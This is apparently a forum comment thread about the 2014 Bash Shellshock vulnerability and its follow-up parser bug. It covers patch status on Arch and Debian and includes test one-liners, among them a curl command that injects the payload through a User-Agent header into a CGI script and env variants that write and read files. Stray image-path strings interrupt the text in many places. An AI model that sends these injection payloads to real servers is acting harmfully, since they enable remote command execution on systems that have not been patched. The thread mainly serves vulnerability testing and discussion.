FastCGI does work differently – it spawns a process which stays open and communicates with it over stdin / stdout – but that doesn't mean that his PHP scriptdoesn't unexpectedly invoke system() somewhere.

This script here is run when the process is spawned and spawns the PHP process that listens to stdin/stdout. Similar scripts exist in most install of mod_fcgid. E.g. PLESK, Virtualmin, other ISP-Panels... It boils down to look at what environment variables are there when bash runs this script or not? Once bash starts and grabs the environment variables the exploit starts.

So considering there are other variables in there that can be manipulated it would be possible to own a large chunk of servers on the Internet. However I'm not sure if there is caveat and I had hoped that someone can help me.

Edit: Looks safe. These variables are not even there. It's just an outdated script.

I'm a relative newcomer to the command line and have been Googling around for what exactly the () {:;} is doing with no luck. Does anyone have a good link or explanation?

() makes a function { is the function body : is an ancient 'command' that does nothing ; is says run the : command } closes the function body.

Got it, thanks!

Who the hell writes CGI scripts in 2014?

There is a reason PHP is to be kept away and not touched with a ten meter stick, it seems to spawn a shell for weird reasons, I dont think python or groovy apps do that. They're safe, unless you somewhere specifically invokeSystem.getRuntime().run("bash");

PHP never "spawns shell for weird reasons" - it would spawn shell if you ask it to spawn shell. Just as any other language would, if you ask it. Still, many apps may use shell indirectly - e.g. to execute some system function, to call out to some tool, etc. - and those may be vulnerable even if original code was not CGI script. Moreover, you don't have to run specifically bash - any command execution may go through shell, which may be bash, e.g. Runtime.getRuntime().exec() in Java. Thus it may be not very easy to pinpoint all the places where this bug could sneak in.

> groovy apps do that [... if] you somewhere specifically invoke System.getRuntime().run("bash");

That's a one-liner in Groovy, written in the Java style of chained method calls, which is the direct equivalent of spawning a shell in non-JVM languages, so that's not an argument for using Groovy instead of PHP.

"A CGI script written in bash"You're killin' me here. If you expose a shell script directly to the network, you're exposing a shell and deserve to be pwned.

If bash is invoked at any point in the response cycle you are pwned; not just if you are directly exposing a shell script. How confident are you that this never happens on any computers anywhere on your network ever?

That's ridiculous. You may as well say that every time you put a python script up, you're exposing the entire Python runtime and deserve to get 'pwned'.

The scope of the risk is limited to script that you write, whether bash or Python.

To be fair, with all the various ways how shell scripts (not only in bash) interpolate, evaluate, substitute etc., the typical shell language is much, much harder to keep safe against code injection than say Python (or even PHP). After all, code injection/evaluation is actually what you want in a shell script, half of the time.

It doesn't have a nice catchy name and a logo, though

Fine. Now it's called BashSmash. Are you happy? Go make a logo.

Someone already made on a few hours ago... https://i.imgur.com/ilJbM74.png

That's really ugly and not a real logo.

People are now calling it "Shellshock".

That's nice. I like this song.That's funny, showing my age, but "Shellshock" immediately brings up a completely different song in my mind: https://www.youtube.com/watch?v=JUhZ30D7tYU

Is it just me, or are the patches "fixing" the vulnerability woefully insufficient? With the patch, bash stops executing the trailing code, but it still allows defining arbitrary shell functions from environment variables. So, even though the patch fixes the ability to exploit this via SSH_ORIGINAL_COMMAND or HTTP_*, anything that can set environment variables can still override an arbitrary command. (Note that privileged environments typically filter out attempts to set PATH, LD_LIBRARY_PATH, and so on.)

This applies even if your shell script or shell snippet uses the full paths to commands. For instance:

    $ env '/sbin/foo'='() { echo exploit; }' bash -c '/sbin/foo'Attacker-controlled environment variable names are a rare scenario, and one that probably has you hosed no matter what. Attacker-controlled environment variable values, on the other hand, are not so rare, and if not for this vulnerability they wouldn't be a problem.

More specifically: The environment in general is an attack vector. I mean, it's global input that crosses execution domains! Any name/value pair could potentially mess with any number of programs in unexpected ways. A user should not be able to control anyenvironment changes, period. Of course, whether or not this is practical is an exercise for the sysadmin.

It's not just you. The fact that an environment variable can override e.g. "git" to do something else is a real problem requiring separate protection. However, that'seffectively PATH injection rather than code injection so it's already addressed in many cases.

Except that most environments already filter out attempts to control PATH, LD_LIBRARY_PATH, and similar; they don't filter out "git".

I agree. In the next few months, we'll probably be finding out about some of the cases where neither existing sanitization nor the half-fix for this problem was sufficient to prevent exploits in this family. :(

I might be misunderstanding this, but this can be accomplished through http request headers?

It would be a malformed http header and most libraries would ignore it or raise an error.

The vulnerability was released, what, a few hours ago? With a major vulnerability, waiting around for a "proper" fix is probably not a good idea. Get in a hot-patch to minimize the damage, then work on a "proper" fix...It might still be an issue. The patches may not have done enough.

$ env X='() { (a)=>\' sh -c "echo date"; cat echo


env X='() { (a)=>\' bash -c "echo echo vuln"; [[ "$(cat echo)" == "vuln" ]] && echo "still vulnerable :("

Can anyone confirm that this is still a security issue?

My reading of this is that it's weird, and it'scertainly a bug in the parser, but because you don't get to put the executable code in the environment variable it's not an RCE exploit like the last bug was.

Does anyone have confirmation that this new bug allows you to RCE with control of the value of an environment variable alone?

As best I cantell no one has (publicly) demonstrated a mechanism to turn this into an RCE (despite efforts to do so).


Of course, that doesn't mean there isn't one. It's clearly a reasonably significant issue - the setting of environment variables can cause unintended file system writes (and the same parsing bug can be used for reads) - and you're better off assuming that someone will determine an exploit based on it.

That was my initial reaction too, but I'm not so sure now that the bash maintainer has responded. I'm trying to get a better PoC working.

edit: OK, I give. I don't understand how this is different from,

    env z='' echo oops
So, assuming you have Stupid Server 2.0, and SS 2.0 allows you tosend an Accept: header with,

    '' evil command here
...you still need to find a way to execute that command, which is differentfrom CVE-2014-6271, which caused function embedded in environment variables to be executed when they were read.

Am I missing something?

Am I missing something?

I think so, but the sample exploit isn't really designed to give a clear understanding if you don't already know what's going on.

Try this:

  $ export X="() { (a)=>\\"
  $ bash -c 'echo date'
  bash: X: line 1: syntax error near unexpected token `='
  bash: X: line 1: `'
  bash: error importing function definition for `X'
  $ cat echo
  Thu Sep 25 02:27:07 UTC 2014
Setting "X" in that way confuses the bash env variable parser. It barfs at the "=" and leaves the ">\" unparsed

AFAICT (without digging deep into the code) that leave in the execution buffer as ">\[NEWLINE]echo date" which gets treated the same as

  date > echo

Oh that's neat.

The same trick can be used to read files as well

  $ date -u > file1
  $ env -i X='() { (a)=<\' bash -c 'file1 cat'
  bash: X: line 1: syntax error near unexpected token `='
  bash: X: line 1: `'
  bash: error importing function definition for `X'
  Thu Sep 25 02:14:30 UTC 2014Though obviously it's going to be trickier to find an system that issues commands in a way that can act as a path for that sort of exploit.

Chet (bash maintainer) says he has a fix.


That's good news

Just tested on Ubuntu 14.04 patched.

"still vulnerable :("

env x='() { :;}; echo vulnerable' bash -c "echo this is a test"

From https://securityblog.redhat.com/2014/09/24/bash-specially-cr...

Oh damn:

curl -H 'User-Agent: () { :;}; echo; echo vulnerable to CVE-2014-6271' <shell script CGI URL>

Tested and working against a shell script CGI.

Whoa. I tried this, ran pacaur -Suy and .. it's patched.

Arch was fast.

If you're on Arch, you might want to think about using dash as your /usr/bin/sh after updating, see [0].[0] https://wiki.archlinux.org/index.php/Dash

Also make sure your mirror is up to date. When I updated this morning, osuosl was out of date (and still is as of this comment: https://www.archlinux.org/mirrors/osuosl.org/125/)

    $ x='() { :;}; echo vulnerable' bash -c 'echo test'
    $ pacman -Syu
    $ x='() { :;}; echo vulnerable' bash -c 'echo test'
    bash: warning: x: ignoring function definition attempt
    bash: error importing function definition for `x'
Benefits of using an OS with a real package manager.

Just don't turn it off after you've ran `pacman -Syu`, it will never boot again ;)

I know you're just teasing, but I've got a machine with an arch install from over two years ago that's still running great. Just did an -Syyu to get bash updated.

The trick is to keep up with the updates, do pacman -Syu every two weeks or so, and not wait months.After it happened 5 times in a row, I finally just aliased pacman -Syu to "breakX".

I learned today that some mirrors update their package database a lot faster than others. Had to switch mirrors to get the new bash.


It's fixed in Debian as well.

only in wheezy (security) right now.squeeze. jessie and wheezy are still vulnerable.


squeeze is not supported anymore but you can use squeeze-lts.

It's been uploaded to squeeze-lts but has not reached the mirrors.You can get it manually from http://incoming.debian.org/debian-buildd/pool/main/b/bash/ if you can't wait.

I've got a Debian VM I maintain for giggles, and just out of masochism I've been running "apt-get update" and "apt-get upgrade" for a while and watching nothing change.. Am I doing something wrong or is the whole process just slow?

    deb http://http.debian.net/debian/ squeeze-lts main contrib non-free
    deb-src http://http.debian.net/debian/ squeeze-lts main contrib non-free

You probably have:

    APT::Default-Release "squeeze";
In a configuration somewhere. Check /etc/apt and the various files in the subdirectories of that.

If you have that line remove it or change it to squeeze-lts

I am not so sure. Debian sid (i386) with current updates, the example test shows I am still vulnerable. 4.3-9 bash

I ran

    env x='() { :;}; echo vulnerable' bash -c "echo this is a test"and got

    this is a test
so I did

    apt-get update
    apt-get install bash
and now I get

    bash: warning: x: ignoring function definition attempt
    bash: error importing function definition for `x'
    this is a testbash version 4.2.37(1)-release

Edited: Seems like jvreeland has a clearer picture: https://news.ycombinator.com/item?id=8362309

Yeah, I was current yesterday and I'm current today, with both apt-get update and upgrades. Your version number is lower than mine, you must be on either stable or testing.

ii bash 4.3-9 i386 GNU Bourne Again SHell

$ env x='() { :;}; echo vulnerable' bash -c "echo this is a test"

vulnerable this is a test

From the FAQ:

> Does sid have security updates?

Not in the same sense that stable does. If the maintainer of a package fixes a security bug and uploads the package, it'll go into sid by the normal means. If the maintainer doesn't do that, then it won't. The security team only covers stable (and possibly testing... there's a pending issue for that case).

sid/unstable had a fix uploaded ~3 hrs ago fwiw (after you made your comment).

Only for amd64 though, ctrl+f for "4.3-9.1": http://ftp.debian.org/debian/pool/main/b/bash/Yep. A current i386 debian is still vulnerable, some hours later. Curses.

Edit: I see that even those who got the patch are in fact still vulnerable.


Still vulnerable.

env X='() { (lol)=>\' bash -c "echo id"; cat echo

This is what happens when you have two different processes doing IPC using a human interface mechanism.

Another huge family of vulnerabilities that exists for the same reason are SQL injection vulnerabilities. SQL was invented as a way for humans at a terminal to do database operations. However, we started using it as a way of doing IPC. The problem with using human interfaces as an IPC mechanism is that human interfaces are rarely well-defined or minimal, so it is very hard to constrain behavior to what you expect.

